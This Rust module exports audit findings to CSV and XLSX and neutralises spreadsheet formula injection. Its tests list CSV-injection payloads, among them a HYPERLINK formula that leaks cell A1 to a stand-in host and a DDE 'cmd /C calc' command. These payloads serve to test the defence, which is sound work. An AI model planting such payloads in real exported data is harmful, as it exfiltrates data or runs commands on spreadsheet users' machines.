//! Findings as CSV and XLSX for spreadsheet users, and the formula-injection neutraliser
//! every spreadsheet report shares ([`neutralise`]): text that a spreadsheet could run as a
//! formula is prefixed with `'`.

use crate::domain::baseline::Changes;
use crate::domain::finding::Finding;
use crate::domain::lang::Lang;
use crate::domain::money::format_rate;
use crate::domain::money_text;
use crate::report::i18n;
use rust_decimal::Decimal;
use std::borrow::Cow;
use std::fmt::Write as _;

/// The columns, in order.
pub const COLUMNS: [&str; 21] = [
    "id",
    "type",
    "severity",
    "contract_id",
    "period_start",
    "period_end",
    "installment",
    "payout_id",
    "reason",
    "expected",
    "paid",
    "difference",
    "due_on",
    "paid_on",
    "days_late",
    "interest",
    "amount",
    "detail",
    "location",
    "formula",
    // Last, so scripts reading the earlier columns by position keep working (issue 19).
    "expires_on",
];

/// The column a run with `--baseline` adds after [`COLUMNS`]: `new` or `persisting`.
/// Without a baseline it is left out, as findings.json leaves out its `change` field.
pub const CHANGE_COLUMN: &str = "change";

/// A cell of the findings table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Value {
    /// Nothing.
    Empty,
    /// Text (neutralised on output).
    Text(String),
    /// Money.
    Money(Decimal),
    /// A whole number.
    Integer(i64),
    /// A day (ISO text in CSV and `findings.xlsx`, a date cell in `report.xlsx`).
    Date(chrono::NaiveDate),
    /// A rate as a fraction (`0.06` is 6%).
    Rate(Decimal),
    /// Yes or no.
    Flag(bool),
}

impl Value {
    fn text(text: Option<&str>) -> Value {
        text.map_or(Value::Empty, |text| Value::Text(text.to_string()))
    }
}

/// The characters that start a formula in Excel, LibreOffice or Google Sheets when they
/// open a cell's text: ASCII and their full-width forms (an IME types `＝` for `=`; whether
/// Excel evaluates it is unconfirmed, so it is treated as if it did).
const FORMULA_STARTS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// Whether a spreadsheet could read `text` as a formula: it starts with tab, carriage
/// return, line feed or NUL (OWASP, ASVS 1.2.10), or its first character that is not
/// white space or a double quote is one of [`FORMULA_STARTS`] (`-2+3`, `  =1+1`,
/// `"=1+1"`, `＝1+1`).
pub fn needs_neutralising(text: &str) -> bool {
    if text.starts_with(['\t', '\r', '\n', '\0']) {
        return true;
    }
    text.chars()
        .find(|character| !(character.is_whitespace() || matches!(character, '"' | '＂')))
        .is_some_and(|character| FORMULA_STARTS.contains(&character))
}

/// Makes text safe to open in a spreadsheet (CSV injection, OWASP): text that
/// [`needs_neutralising`] gets a leading `'`, which every spreadsheet shows as text. Used
/// for every text cell of `findings.csv`, `findings.xlsx` and `report.xlsx`. A separator
/// inside a field (`a,=1+1`, `a;=1+1`) cannot start a new cell because the CSV quotes
/// every field that is not a number.
///
/// Bidirectional controls are written as `{U+202E}` first ([`super::bidi`]), so that a
/// spreadsheet cannot show the cell reordered.
pub fn neutralise(text: &str) -> String {
    neutralised(text).into_owned()
}

/// [`neutralise`], borrowing `text` when it is already safe (nearly always), so a report
/// writing hundreds of thousands of cells copies none of them.
pub fn neutralised(text: &str) -> Cow<'_, str> {
    match super::bidi::visible(text) {
        Cow::Borrowed(text) if !needs_neutralising(text) => Cow::Borrowed(text),
        Cow::Borrowed(text) => Cow::Owned(format!("'{text}")),
        Cow::Owned(text) if needs_neutralising(&text) => Cow::Owned(format!("'{text}")),
        Cow::Owned(text) => Cow::Owned(text),
    }
}

/// The most UTF-16 units Excel holds in one cell.
pub const CELL_TEXT_LIMIT: usize = 32_767;

/// [`neutralise`], then cut to what one Excel cell holds (a longer text would make the
/// whole workbook fail): the cut text ends with `…`. Returns the text and whether it
/// was cut.
pub fn cell_text(text: &str) -> (String, bool) {
    let (text, cut) = cell_text_borrowed(text);
    (text.into_owned(), cut)
}

/// [`cell_text`] of an owned text: the same string back when it is safe and fits (nearly
/// always), so the caller hands it on without a copy.
pub fn into_cell_text(text: String) -> (String, bool) {
    match cell_text_borrowed(&text) {
        (Cow::Borrowed(_), cut) => (text, cut),
        (Cow::Owned(changed), cut) => (changed, cut),
    }
}

/// [`cell_text`], borrowing `text` when it is safe and fits (nearly always).
pub fn cell_text_borrowed(text: &str) -> (Cow<'_, str>, bool) {
    let safe = neutralised(text);
    // A UTF-16 unit takes at least one byte, so a text of no more bytes than the limit fits.
    if safe.len() <= CELL_TEXT_LIMIT || safe.encode_utf16().count() <= CELL_TEXT_LIMIT {
        return (safe, false);
    }
    let mut units = 0;
    let mut cut = String::new();
    for character in safe.chars() {
        units += character.len_utf16();
        if units > CELL_TEXT_LIMIT - 1 {
            break;
        }
        cut.push(character);
    }
    cut.push('…');
    (Cow::Owned(cut), true)
}

/// One finding as a row of [`COLUMNS`], its `detail` in `lang`.
pub fn row(finding: &Finding, lang: Lang) -> Vec<Value> {
    let date = |day: Option<chrono::NaiveDate>| day.map_or(Value::Empty, Value::Date);
    let money = |amount: Option<Decimal>| amount.map_or(Value::Empty, Value::Money);
    vec![
        Value::Text(finding.id.clone()),
        Value::Text(finding.finding_type.word().into()),
        Value::Text(finding.severity.word().into()),
        Value::text(finding.contract_id.as_deref()),
        date(finding.period_start),
        date(finding.period_end),
        finding
            .installment
            .map_or(Value::Empty, |number| Value::Integer(i64::from(number))),
        Value::text(finding.payout_id.as_deref()),
        Value::text(finding.reason.map(|reason| reason.word())),
        money(finding.expected),
        money(finding.paid),
        money(finding.difference),
        date(finding.due_on),
        date(finding.paid_on),
        finding.days_late.map_or(Value::Empty, Value::Integer),
        money(finding.interest),
        money(finding.amount),
        Value::Text(i18n::detail(finding, lang)),
        finding
            .evidence
            .location
            .as_ref()
            .map_or(Value::Empty, |location| Value::Text(location.to_string())),
        finding
            .evidence
            .share()
            .map_or(Value::Empty, |share| Value::Text(i18n::formula_of(share))),
        date(finding.expires_on),
    ]
}

/// [`row`], then the finding's `change` against the baseline when there is one.
pub fn row_with_change(finding: &Finding, changes: Option<&Changes>, lang: Lang) -> Vec<Value> {
    let mut cells = row(finding, lang);
    if let Some(changes) = changes {
        cells.push(Value::Text(changes.change(finding).word().into()));
    }
    cells
}

/// The header of the findings tables: [`COLUMNS`], then [`CHANGE_COLUMN`] with a baseline.
fn header(changes: Option<&Changes>) -> Vec<&'static str> {
    let mut columns = COLUMNS.to_vec();
    if changes.is_some() {
        columns.push(CHANGE_COLUMN);
    }
    columns
}

/// The findings as CSV (UTF-8 with a BOM so Excel reads Chinese text correctly), with a
/// `change` column when the run has a baseline, in memory: [`write_csv`] into a buffer.
///
/// # Errors
/// Only if writing to memory fails.
pub fn csv(
    findings: &[Finding],
    changes: Option<&Changes>,
    lang: Lang,
) -> Result<Vec<u8>, csv::Error> {
    let mut bytes = Vec::new();
    write_csv(&mut bytes, findings, changes, lang)?;
    Ok(bytes)
}

/// Writes the findings as CSV into `out`, row by row as each is rendered: UTF-8 with a BOM
/// so Excel reads Chinese text correctly, a `change` column when the run has a baseline.
///
/// # Errors
/// When `out` fails.
pub fn write_csv(
    out: &mut dyn std::io::Write,
    findings: &[Finding],
    changes: Option<&Changes>,
    lang: Lang,
) -> Result<(), csv::Error> {
    out.write_all(&[0xEF, 0xBB, 0xBF])?;
    // Every field that is not a number is quoted (OWASP): a separator inside a text, `,`
    // or the `;` of a locale whose list separator it is, can then never start a cell.
    let mut writer = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::NonNumeric)
        .from_writer(out);
    writer.write_record(header(changes))?;
    // Each field is written as it is formatted: no string per field (money and days are
    // formatted on the stack, a safe text is borrowed).
    let mut number = String::new();
    for finding in findings {
        for value in row_with_change(finding, changes, lang) {
            match value {
                Value::Empty => writer.write_field("")?,
                Value::Text(text) => writer.write_field(&*neutralised(&text))?,
                Value::Money(amount) => writer.write_field(money_text::plain(amount))?,
                Value::Integer(value) => {
                    number.clear();
                    let _ = write!(number, "{value}");
                    writer.write_field(&number)?;
                }
                Value::Date(day) => writer.write_field(money_text::day(day))?,
                Value::Rate(rate) => writer.write_field(format_rate(rate))?,
                Value::Flag(flag) => writer.write_field(if flag { "true" } else { "false" })?,
            }
        }
        writer.write_record(None::<&[u8]>)?;
    }
    writer.flush()?;
    Ok(())
}

/// Writes the findings as an XLSX workbook into `out`, with a fixed creation time, so the
/// same findings give the same bytes; a `change` column when the run has a baseline. Money
/// follows report.xlsx's rule ([`super::excel::money_cell`]): a number cell when a double
/// holds the amount exactly, else its exact text.
///
/// The sheet is written in rust_xlsxwriter's constant-memory mode: each row goes to an
/// anonymous temporary file in `scratch` as soon as the next begins, and strings are
/// written inline in their cells rather than in a shared table (docs/DECISIONS.md,
/// "Reports streamed").
///
/// # Errors
/// When the workbook cannot be assembled, the temporary file cannot be made in `scratch`,
/// or `out` fails.
pub fn write_xlsx(
    out: &mut (dyn std::io::Write + Send),
    findings: &[Finding],
    changes: Option<&Changes>,
    lang: Lang,
    scratch: &std::path::Path,
) -> Result<(), rust_xlsxwriter::XlsxError> {
    use super::excel::{MoneyCell, XLSX_COMPRESSION, money_cell};
    use rust_xlsxwriter::{DocProperties, ExcelDateTime, Format, Workbook};
    let mut workbook = Workbook::new();
    workbook.set_tempdir(scratch)?;
    workbook.set_zip_compression_level(XLSX_COMPRESSION);
    let created = ExcelDateTime::from_ymd(2000, 1, 1)?;
    workbook.set_properties(
        &DocProperties::new()
            .set_creation_datetime(&created)
            .set_title("rebate-audit findings"),
    );
    let bold = Format::new().set_bold();
    let money = Format::new().set_num_format("#,##0.00");
    let sheet = workbook.add_worksheet_with_constant_memory()?;
    sheet.set_name("findings")?;
    // Column widths and the frozen header first: a constant-memory sheet writes its
    // column settings before its first row.
    sheet.set_freeze_panes(1, 0)?;
    for (column, width) in [
        (0u16, 26.0),
        (1, 16.0),
        (3, 16.0),
        (16, 90.0),
        (17, 40.0),
        (18, 90.0),
    ] {
        sheet.set_column_width(column, width)?;
    }
    for (column, name) in header(changes).into_iter().enumerate() {
        sheet.write_string_with_format(0, column as u16, name, &bold)?;
    }
    for (index, finding) in findings.iter().enumerate() {
        let row = u32::try_from(index + 1).unwrap_or(u32::MAX);
        for (column, value) in row_with_change(finding, changes, lang)
            .into_iter()
            .enumerate()
        {
            let column = column as u16;
            match value {
                Value::Empty => {}
                // Strings are never evaluated by Excel, but a copy pasted elsewhere might be.
                Value::Text(text) => {
                    sheet.write_string(row, column, into_cell_text(text).0)?;
                }
                Value::Date(day) => {
                    sheet.write_string(row, column, money_text::day(day).as_str())?;
                }
                Value::Rate(rate) => {
                    sheet.write_string(row, column, format_rate(rate))?;
                }
                Value::Flag(flag) => {
                    sheet.write_boolean(row, column, flag)?;
                }
                Value::Money(amount) => match money_cell(amount) {
                    MoneyCell::Number(number) => {
                        sheet.write_number_with_format(row, column, number, &money)?;
                    }
                    // Our own digits, exact: never neutralised.
                    MoneyCell::Text(shown) => {
                        sheet.write_string(row, column, shown)?;
                    }
                },
                #[allow(clippy::cast_precision_loss)]
                Value::Integer(number) => {
                    sheet.write_number(row, column, number as f64)?;
                }
            }
        }
    }
    workbook.save_to_writer(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bidi_controls_in_cells_are_shown() {
        assert_eq!(neutralise("TX-1\u{202e}001"), "TX-1{U+202E}001");
        // Shown first, then neutralised: a control cannot hide a formula starter.
        assert_eq!(neutralise("\u{200e}=1+1"), "{U+200E}=1+1");
        assert_eq!(neutralise("=1\u{2067}"), "'=1{U+2067}");
        assert_eq!(
            super::super::html_parts::escape("<\u{202e}>"),
            "&lt;{U+202E}&gt;"
        );
    }

    #[test]
    fn the_last_column_is_the_claims_expiry_date() {
        use crate::domain::finding::{About, Fact, FindingType};
        let mut finding = Finding::new(FindingType::Unpaid, Fact::default(), About::EmptyFile);
        assert_eq!(COLUMNS[COLUMNS.len() - 1], "expires_on");
        assert_eq!(row(&finding, Lang::En).last(), Some(&Value::Empty));
        let day = chrono::NaiveDate::from_ymd_opt(2028, 7, 15).unwrap();
        finding.expires_on = Some(day);
        let cells = row(&finding, Lang::En);
        assert_eq!(cells.len(), COLUMNS.len());
        assert_eq!(cells.last(), Some(&Value::Date(day)));
    }

    /// A safe text is borrowed (or handed back) as it is; a changed one is the text
    /// `neutralise` and `cell_text` give.
    #[test]
    fn safe_text_is_not_copied_and_changed_text_is_what_it_was() {
        assert!(matches!(
            neutralised("C-1 plain"),
            Cow::Borrowed("C-1 plain")
        ));
        assert!(matches!(neutralised("合同 1"), Cow::Borrowed("合同 1")));
        for text in ["=1+1", "TX-1\u{202e}001", "\u{200e}=1+1", "-2"] {
            assert_eq!(neutralised(text), neutralise(text));
            assert!(matches!(neutralised(text), Cow::Owned(_)), "{text:?}");
        }
        let owned = String::from("plain text");
        let pointer = owned.as_ptr();
        let (back, cut) = into_cell_text(owned);
        assert_eq!((back.as_str(), cut), ("plain text", false));
        assert_eq!(back.as_ptr(), pointer, "handed back without a copy");
        let long = "=".repeat(CELL_TEXT_LIMIT + 10);
        assert_eq!(into_cell_text(long.clone()), cell_text(&long));
        assert_eq!(into_cell_text("@x".into()), ("'@x".to_string(), false));
    }

    #[test]
    fn formula_starters_are_neutralised() {
        assert_eq!(
            neutralise("=HYPERLINK(\"http://x\")"),
            "'=HYPERLINK(\"http://x\")"
        );
        assert_eq!(neutralise("+1"), "'+1");
        assert_eq!(neutralise("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(neutralise("-2+3"), "'-2+3");
        assert_eq!(neutralise("plain"), "plain");
    }

    /// Every payload of research row R1 comes out inert; ordinary text is left alone.
    #[test]
    fn every_r1_payload_is_neutralised() {
        for payload in [
            "=HYPERLINK(\"http://x/?\"&A1)",
            "@SUM(1+1)",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\0=1+1",
            "\"=1+1\"",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(1)",
            "  =1+1",
            "\u{3000}=1+1",
            "\u{a0}=1+1",
        ] {
            assert!(needs_neutralising(payload), "{payload:?}");
            let safe = neutralise(payload);
            assert_eq!(safe, format!("'{payload}"));
            assert!(!needs_neutralising(&safe), "{safe:?}");
        }
        // A separator followed by a trigger starts no cell by itself; the CSV quotes it.
        for text in [
            "a,=1+1",
            "a;=1+1",
            "C-1",
            "2025-01-01",
            "'=already",
            "",
            "合同=1",
        ] {
            assert_eq!(neutralise(text), text, "{text:?}");
        }
    }

    #[test]
    fn csv_quotes_text_so_a_separator_cannot_open_a_cell() {
        // `Default::default()`: the finding's identifying fact does not matter here.
        let mut finding = Finding::new(
            crate::domain::finding::FindingType::UnmatchedPayout,
            Default::default(),
            crate::domain::finding::About::UnreadableFile {
                error: "a;=1+1".into(),
            },
        );
        finding.payout_id = Some("a,=1+1".into());
        finding.contract_id = Some("=1+1".into());
        finding.amount = Some(Decimal::new(-1250, 2));
        let text = String::from_utf8(csv(&[finding], None, Lang::En).unwrap()).unwrap();
        let line = text.lines().nth(1).unwrap();
        assert!(line.contains("\"a,=1+1\""), "{line}");
        assert!(
            line.contains("\"The file could not be read: a;=1+1\""),
            "{line}"
        );
        assert!(line.contains("\"'=1+1\""), "{line}");
        // Money stays a bare number: no quote, no `'`.
        assert!(line.contains(",-12.50,"), "{line}");
    }

    #[test]
    fn text_longer_than_a_cell_is_cut_with_an_ellipsis() {
        let long = "=".repeat(CELL_TEXT_LIMIT + 10);
        let (cut, was_cut) = cell_text(&long);
        assert!(was_cut);
        assert!(cut.starts_with("'="));
        assert!(cut.ends_with('…'));
        assert_eq!(cut.encode_utf16().count(), CELL_TEXT_LIMIT);
        assert_eq!(cell_text("short"), ("short".to_string(), false));
    }
    #[test]
    fn with_a_baseline_csv_ends_each_row_with_its_change() {
        let fact = |payout| crate::domain::finding::Fact {
            payout_id: Some(payout),
            ..Default::default()
        };
        let kind = crate::domain::finding::FindingType::UnmatchedPayout;
        let about = || crate::domain::finding::About::UnknownContract {
            currency: String::new(),
            named: "C9".into(),
        };
        let old = Finding::new(kind, fact("P1"), about());
        let fresh = Finding::new(kind, fact("P2"), about());
        let listed = serde_json::json!({
            "schema": crate::report::json::SCHEMA,
            "as_of": "2026-05-31",
            "findings": [{
                "id": old.id, "type": "unmatched_payout", "severity": old.severity.word(),
                "payout_id": "P1", "detail": "about P1", "evidence": {"facts": {}},
            }],
        });
        let baseline =
            crate::baseline::Baseline::from_bytes("prev.json", listed.to_string().as_bytes())
                .unwrap();
        let findings = [old, fresh];
        let changes = crate::baseline::compare(&baseline, &findings);
        let text = String::from_utf8(csv(&findings, Some(&changes), Lang::En).unwrap()).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert!(lines[0].ends_with(",\"change\""), "{}", lines[0]);
        assert!(lines[1].ends_with(",\"persisting\""), "{}", lines[1]);
        assert!(lines[2].ends_with(",\"new\""), "{}", lines[2]);
        // Without a baseline the columns are those of before: the last one is
        // `expires_on` (issue 19).
        let plain = String::from_utf8(csv(&findings, None, Lang::En).unwrap()).unwrap();
        assert!(
            plain
                .lines()
                .next()
                .unwrap()
                .ends_with(",\"formula\",\"expires_on\"")
        );
    }
}
